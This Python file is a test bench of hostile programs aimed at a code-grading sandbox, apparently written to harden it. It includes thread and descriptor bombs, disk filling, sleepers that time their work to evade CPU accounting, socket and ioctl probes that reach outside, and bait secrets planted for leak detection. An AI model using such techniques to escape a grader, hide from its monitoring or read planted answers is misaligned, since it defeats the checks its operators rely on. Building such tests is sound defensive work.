        "[f'{library}/lib-dynload/{name}' for name in os.listdir(f'{library}/lib-dynload') if name.startswith(('_csv', '_decimal', '_sqlite3'))]",
        "fcntl.fcntl(fd, 1024, 1)",
    ),
    "library_by_raw_calls": ("MODULES", "called(72, fd, 1024 | 1 << 32, 1) or called(72, fd, 1040, 1)"),
}
for kind, (paths, ask) in ASKED.items():
    taking(
        f"lease_on_{kind}",
        LEASES + f"for path in {paths}: lease(path, lambda fd: {ask})\nhold()\n",
        times=2,
        beside=True,
    )
taking(
    "lease_on_own_files",
    """
    open("x", "w").close()
    if granted(lambda: fcntl.fcntl(os.open("x", os.O_RDONLY), 1024, 1)): print("done")
    """,
)
taking(
    "watch_on_the_library",
    """
    signal.signal(signal.SIGRTMIN, lambda *a: None)
    fd = os.open(os.path.dirname(os.__file__), os.O_RDONLY)
    fd_own = os.open(".", os.O_RDONLY)
    if granted(lambda: fcntl.fcntl(fd, 1026, 0x80000001)) or granted(lambda: fcntl.fcntl(fd_own, 1026, 0x8000003F)): print("done")
    """,
)
taking(
    "signals_from_descriptors",
    """
    read, write = os.pipe()
    asks = [lambda: fcntl.fcntl(read, 8, os.getppid()), lambda: fcntl.fcntl(read, 10, 9), lambda: fcntl.fcntl(read, 15, struct.pack("ii", 1, os.getppid())),
            lambda: fcntl.ioctl(read, 0x8901, struct.pack("i", os.getppid())), lambda: fcntl.ioctl(read, 0x8902, struct.pack("i", 1))]
    if any([granted(ask) for ask in asks]): print("done")
    """,
)

# More threads than the machine has room for, and gone before or after they are counted.
BOMB = """
import _thread, threading
threading.stack_size(32768)
gate = _thread.allocate_lock()
gate.acquire()
def bomb(seconds, start):
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        try: start()
        except RuntimeError: pass
"""
taking(
    "thread_bomb_of_small_stacks",
    BOMB + "bomb(3, lambda: threading.Thread(target=gate.acquire, daemon=True).start())\nos._exit(1)\n",
    times=6,
    beside=True,
)
taking(
    "thread_bomb_of_bare_threads",
    BOMB + "bomb(3, lambda: _thread.start_new_thread(gate.acquire, ()))\nos._exit(1)\n",
    times=6,
    beside=True,
)
taking(
    "thread_bomb_that_goes_off_early",
    BOMB + "bomb(0.04, lambda: _thread.start_new_thread(gate.acquire, ()))\nos._exit(1)\n",
    times=40,
    beside=True,
)

# Asleep for seconds, and never when it is looked at.
SLEEPERS = {
    # a stop tells the parent, which wakes up and looks; a timer lets it go on at once
    "awake_when_it_calls_for_a_look": """
        from ctypes import byref, c_int, c_long
        timer = c_int()
        libc.syscall(222, 1, (c_int * 16)(0, 0, 18, 0), byref(timer))
        end = time.monotonic() + 3
        while time.monotonic() < end:
            time.sleep(0.1)
            libc.syscall(223, timer, 0, (c_long * 4)(0, 0, 0, 60_000), None)
            os.kill(os.getpid(), signal.SIGSTOP)
            until = time.perf_counter() + 0.004
            while time.perf_counter() < until: pass
        """,
    "awake_every_quarter_of_a_second": """
        start = time.monotonic() + int(input()) * 0.03
        for k in range(1, 9):
            time.sleep(max(0, start + k * 0.2505 - 0.05 - time.monotonic()))
            while time.monotonic() < start + k * 0.2505: pass
        """,
    "awake_every_twentieth_of_a_second": """
        start = time.monotonic() + int(input()) * 0.006
        for k in range(1, 60):
            time.sleep(max(0, start + k * 0.0504 - 0.006 - time.monotonic()))
            while time.monotonic() < start + k * 0.0504: pass
        """,
}
for kind, program in SLEEPERS.items():
    tests = tuple((f"{n}\n", "42") for n in range(1 if "calls" in kind else 8))  # as many guesses of when that is
    ATTACKS[f"asleep_{kind}"] = Attack(GRANTED + textwrap.dedent(program) + "print(42)\n", tests, "stdio", KERNEL)
attack(
    "asleep_in_a_storm_of_stops",
    GRANTED
    + """
from ctypes import byref, c_int, c_long
timer = c_int()
libc.syscall(222, 1, (c_int * 16)(0, 0, 18, 0), byref(timer))
libc.syscall(223, timer, 0, (c_long * 4)(0, 50_000, 0, 50_000), None)
end = time.monotonic() + 3
while time.monotonic() < end: os.kill(os.getpid(), signal.SIGSTOP)
print(42)
""",
    tiers=KERNEL,
    expected="42",
)

# What lies outside, by a socket that is not meant for it.
taking(
    "reach_sockets_with_a_path",
    """
    import glob
    def attempts():
        for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
            try: one = socket.socketpair(socket.AF_UNIX, kind)[0]
            except OSError: continue
            for path in (*sys.stdin.readline().split(), "/run/systemd/journal/nothing"):
                address = path.encode()
                named = ctypes.create_string_buffer(struct.pack("@H", 1) + address)
                piece = ctypes.create_string_buffer(b"x" * 8)
                pieces = ctypes.create_string_buffer(struct.pack("@PN", ctypes.addressof(piece), 1))
                head = ctypes.create_string_buffer(struct.pack("@PIPNPNi", ctypes.addressof(named), len(named), ctypes.addressof(pieces), 1, 0, 0, 0))
                for act in (lambda: one.sendto(b"x", path), lambda: one.sendmsg([b"x"], [], 0, path), lambda: one.connect(path),
                            lambda: called(44, one.fileno(), ctypes.addressof(piece), 1, 0, ctypes.addressof(named), len(named)),
                            lambda: called(46, one.fileno(), ctypes.addressof(head), 0)):
                    yield granted(act)
    print("done" if any(list(attempts())) else "nothing")
    """,
)
taking(
    "network_interfaces_by_ioctl",
    """
    found = set()
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        one = socket.socketpair(socket.AF_UNIX, kind)[0]
        room = array.array("B", bytes(4096))
        try:
            size = struct.unpack_from("@i", fcntl.ioctl(one, 0x8912, struct.pack("@iP", 4096, room.buffer_info()[0])))[0]
            found |= {bytes(room[:size])} - {b""}
        except OSError: pass
        for index in range(1, 9):
            for ask in (0x8910, 0x8913, 0x8927, 0x8921):
                try: found.add(fcntl.ioctl(one, ask, struct.pack("@16si20x", b"lo" if ask != 0x8910 else b"", index)))
                except OSError: pass
    print("done" if found else "nothing")
    """,
)

# More descriptors than a process may have.
taking(
    "descriptor_tables_of_threads",
    """
    import threading
    counts, gate = [], threading.Barrier(9)
    def fill():
        if not called(436, 60, 60, 2): gate.wait(); return
        held = []
        try:
            while True: held += socket.socketpair()
        except OSError: pass
        counts.append(len(held)); gate.wait(); gate.wait()
    for _ in range(8): threading.Thread(target=fill, daemon=True).start()
    gate.wait()
    print("done" if sum(counts) > 64 else "nothing", flush=True)
    os._exit(0)
    """,
)
taking(
    "descriptor_table_of_the_only_thread",
    """
    flags = [2, 6, 2 | 1 << 32]
    print("done" if any(called(436, 50, 60, each) for each in flags) else "nothing")
    """,
)
taking(
    "threads_without_a_common_table",
    """
    # libc's syscall() comes back on the new stack, where it finds pause() to return to
    stack = ctypes.create_string_buffer(1 << 16)
    top = (ctypes.addressof(stack) + (1 << 15)) & ~15
    pause = ctypes.cast(libc.pause, ctypes.c_void_p).value
    ctypes.memmove(top, struct.pack("@8P", *[pause] * 8), 64)
    print("done" if called(56, 0x10000 | 0x800 | 0x100, top, 0, 0, 0) else "nothing", flush=True)
    os._exit(0)
    """,
)

# The disk of the machine, where the scratch folder lies on it. (With the limits of every day, and on a small disk.)
DISK = {
    "allocated_between_two_looks": """
        for n in range(1000):
            try:
                with open(f"x{n}", "wb") as file: os.posix_fallocate(file.fileno(), 0, 1 << 24)
            except OSError: pass
        time.sleep(1)
        """,
    "of_files_without_a_name": """
        held, block = [], bytes(1 << 20)
        try:
            for n in range(58):
                held.append(open("x", "wb", 0)); os.unlink("x")
                for _ in range(16): held[-1].write(block)
        except OSError: pass
        time.sleep(1)
        """,
    "of_files_that_are_mapped": """
        import mmap
        held = []
        try:
            for n in range(50):
                with open("x", "w+b") as file:
                    file.truncate(1 << 24)
                    held.append(mmap.mmap(file.fileno(), 1 << 24))
                os.unlink("x")
                for at in range(0, 1 << 24, 4096): held[-1][at] = 1
        except (OSError, ValueError): pass
        time.sleep(1)
        """,
    "until_there_is_no_space": """
        n = 0
        while True:
            n += 1
            with open(f"x{n}", "wb", 0) as file:
                for _ in range(16): file.write(bytes(1 << 20))
        """,
}
for kind, program in DISK.items():
    taking(f"disk_{kind}", textwrap.dedent(program) + "\nprint('done')\n", tiers="strict", times=3, beside=True)


# ── the bench ────────────────────────────────────────────────────────────────────────────────────────────────────────


def descendants() -> dict[int, str]:
    """pid -> state and name of every living process under this one."""
    parents, names = {}, {}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            with contextlib.suppress(OSError):
                name, _, rest = Path(f"/proc/{entry}/stat").read_text().rpartition(")")
                parents[int(entry)] = int(rest.split()[1])
                names[int(entry)] = rest.split()[0] + " " + name.partition("(")[2]
    found: dict[int, str] = {}
    for pid in parents:
        above = parents.get(pid, 0)
        while above not in (0, os.getpid()):
            above = parents.get(above, 0)
        if above == os.getpid():
            found[pid] = names[pid]
    return found


def resident_mb() -> float:
    gc.collect()
    return int(Path("/proc/self/statm").read_text().split()[1]) * os.sysconf("SC_PAGE_SIZE") / 2**20


def marked_files() -> set[str]:
    found = set()
    for folder in (
        "/tmp",
        "/var/tmp",
        "/dev/shm",
        tempfile.gettempdir(),
        str(Path.home()),
        os.getcwd(),
        os.path.dirname(os.__file__),
    ):
        with contextlib.suppress(OSError):
            found |= {f"{folder}/{name}" for name in os.listdir(folder) if MARK in name}
    for kind in ("shm", "sem", "msg"):
        with contextlib.suppress(OSError):
            for line in Path(f"/proc/sysvipc/{kind}").read_text().split("\n")[1:]:
                if line.split() and int(line.split()[0]) & 0xFFFF0000 == 0x7E570000:
                    found.add(f"{kind} {line.split()[0]}")
    return found


def serve_the_secret() -> str:
    """Two servers that tell the secret to whoever connects: a port of this machine, and a name without a file."""

    def serve(server: socket.socket) -> None:
        while True:
            with server.accept()[0] as wire:
                wire.sendall(SECRET.encode())

    unnamed = socket.socket(socket.AF_UNIX)
    name = f"hostile-mark-server-{os.getpid()}-{secrets.token_hex(4)}"
    unnamed.bind("\0" + name)
    unnamed.listen()
    port = socket.create_server(("127.0.0.1", 0))
    for server in (unnamed, port):
        threading.Thread(target=serve, args=(server,), daemon=True).start()
    return f"{port.getsockname()[1]} {name}"


def cpu_seconds() -> float:
    """Of this process and of all under it, so far; what has ended is counted with who has waited for it."""
    ticks = 0
    for pid in descendants():
        with contextlib.suppress(OSError):
            fields = Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()
            ticks += sum(map(int, fields[11:15]))
    return time.process_time() + ticks / os.sysconf("SC_CLK_TCK")


GOOD = (
    "n = int(input())\nfor k in range(32 if n > 3 else 1): open(f'x{k}', 'wb').write(bytes(1 << 20))\nprint(n * n)\n",
    [("12\n", "144\n"), ("3\n", "9\n")],
)
honest_numbers = itertools.count()
known_at_rest: dict[grader.Grader, tuple[int, set[str], float]] = {}
GOOD_ASSERT = ("def f(x):\n    return [x, {'a': x}]\n", ["assert f(3) == [3, {'a': 3}]", "assert f('a')[0] == 'a'"])


# Beside an attack, again and again: what the library, its threads or its disk could be taken from.
BESIDE = (
    ("import difflib, csv, textwrap\nn = int(input())\nprint(n * n)\n", [("12\n", "144\n")], "stdio", ""),
    (
        "import threading\ndone = []\nthreads = [threading.Thread(target=done.append, args=(n,)) for n in range(8)]\n"
        "for one in threads: one.start()\nfor one in threads: one.join()\nprint(len(done))\n",
        [("", "8")],
        "stdio",
        "",
    ),
    (
        "import os\nfor n in range(12):\n    with open(f'x{n}', 'wb') as f: f.write(bytes(1 << 20))\n"
        "print(sum(os.stat(name).st_size for name in os.listdir('.')))\n",
        [("", str(12 << 20))],
        "stdio",
        "",
    ),
    ("def f(x):\n    return x + 1\n", ["assert f(1) == 2"], "assert", "import argparse"),
)


async def honest_beside(judge: grader.Grader, over: asyncio.Event) -> list[str]:
    """What has become of honest programs until it is over, each another text so that it is run again."""
    outcomes = []
    while not over.is_set() or len(outcomes) < len(BESIDE):
        for program, tests, kind, setup in BESIDE:
            number = next(honest_numbers)
            few = [*tests, f"assert f({number}) == {number + 1}"] if kind == "assert" else tests
            results = await judge.run(f"{program}# {number}\n", few, kind=kind, setup=setup and f"{setup} as a{number}")
            outcomes += [f"{r.outcome} {program.splitlines()[0]} {setup}" for r in results]
    return [outcome for outcome in outcomes if not outcome.startswith("pass ")]


async def fought(judge: grader.Grader, name: str, told: tuple[str, str], reached: socket.socket) -> None:
    """Fight one attack, and print what became of it. told: where the servers and the sockets with a path are."""
    job = ATTACKS[name]
    if not known_at_rest.get(judge):
        await next_programs(judge)
        known_at_rest[judge] = len(descendants()), marked_files(), resident_mb()
    at_rest, files, size = known_at_rest[judge]
    row = {"name": name, "tier": judge.tier, "fault": "", "outcomes": [], "good": False}
    given = told[0] if "server_on_this" in name else told[1] if "sockets_with_a_path" in name else None
    tests = job.tests if given is None else [(given, t[1]) for t in job.tests]
    began, spent, over = time.monotonic(), cpu_seconds(), asyncio.Event()
    try:
        honest = asyncio.create_task(honest_beside(judge, over)) if job.beside else None
        try:
            results = await judge.run(job.program, tests, kind=job.kind, setup=job.setup)
        finally:
            over.set()
            row["beside"] = await honest if honest else []
        row["own"] = round(sum(r.cpu_seconds for r in results), 2)
        row["taken"] = 0.0 if job.beside else round(cpu_seconds() - spent - row["own"], 2)
        row["outcomes"] = ["pass" if r.passed else r.outcome for r in results]
        row["seconds"] = round(time.monotonic() - began, 2)
        row["good"] = all(r.passed for r in await next_programs(judge)) and not row["beside"]
    except Exception as error:
        row["fault"] = f"{type(error).__name__}: {error}"
    for _ in range(20):
        if len(left := descendants()) <= at_rest:
            break
        await asyncio.sleep(0.1)
    row["left"] = [f"{p} {n}" for p, n in left.items()] if len(left) > at_rest else []
    row["left"] += sorted(marked_files() - files)
    with contextlib.suppress(BlockingIOError):
        while True:
            row["left"].append(f"a datagram: {reached.recv(100)!r}")
    row["grown"] = round(resident_mb() - size, 1)
    print(json.dumps(row), flush=True)


async def next_programs(judge: grader.Grader) -> list[grade.TestResult]:
    """Honest ones after an attack, with a number: an equal program is not run again."""
    number = f"# {next(honest_numbers)}\n"
    good = await judge.run(GOOD[0] + number, GOOD[1])
    return good + await judge.run(GOOD_ASSERT[0] + number, GOOD_ASSERT[1], kind="assert")


async def bench(tier: str, names: list[str]) -> None:
    import grader
    from grading import sandbox

    ctypes.CDLL(None).prctl(36, 1, 0, 0, 0)  # orphans become ours, and are seen
    servers = serve_the_secret()
    os.environ["SECRET"] = SECRET
    bait = os.memfd_create("bait", 0)
    os.write(bait, SECRET.encode())
    os.set_inheritable(bait, True)
    folder = tempfile.mkdtemp(prefix="bait-")
    (Path(folder) / "answers.txt").write_text(SECRET)
    reached = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)  # no datagram may ever get here
    reached.setblocking(False)
    bait_socket = f"/tmp/bait-{secrets.token_hex(4)}"
    reached.bind(bait_socket)
    os.chmod(bait_socket, 0o666)
    tier, _, default = tier.partition("/")
    short = sandbox.Limits(cpu_seconds=0.5, asleep_seconds=0.5, memory_bytes=256 << 20, output_bytes=1 << 20)
    limits = sandbox.Limits() if default else short
    told = (
        f"{servers}\n",
        f"{bait_socket} {' '.join(p for p in ('/dev/log', '/run/systemd/notify') if os.path.exists(p))}\n",
    )
    for beside in (False, True):
        some = [name for name in names if ATTACKS[name].beside == beside]
        if beside and any("thread_bomb" in name for name in some):  # the machine has room for so many threads of ours
            hard = resource.getrlimit(resource.RLIMIT_NPROC)[1]
            resource.setrlimit(resource.RLIMIT_NPROC, (len(descendants()) + 400, hard))
        async with grader.Grader(workers=1 + beside, tier=tier, limits=limits) as judge:
            for name in some:
                await fought(judge, name, told, reached)
    for _ in range(30):
        if not descendants():
            break
        time.sleep(0.1)
    (Path(folder) / "answers.txt").unlink()
    os.unlink(bait_socket)
    os.rmdir(folder)
    rest = [f"{p} {n}" for p, n in descendants().items()] + [
        f"{tempfile.gettempdir()}/{n}" for n in os.listdir(tempfile.gettempdir())
    ]
    print(json.dumps({"name": "at_the_end", "tier": tier, "left": rest}), flush=True)


if __name__ == "__main__":
    os.environ["TMPDIR"] = tempfile.tempdir = tempfile.mkdtemp(prefix="hostile-")
    chosen = [name for name in ATTACKS if sys.argv[1].partition("/")[0] in ATTACKS[name].tiers.split()]
    if len(sys.argv) > 2:
        chosen = [
            name
            for name in chosen
            if any(name == wanted or (wanted not in ATTACKS and name.startswith(wanted)) for wanted in sys.argv[2:])
        ]
    try:
        asyncio.run(bench(sys.argv[1], chosen))
    finally:
        with contextlib.suppress(OSError):
            os.rmdir(tempfile.tempdir)
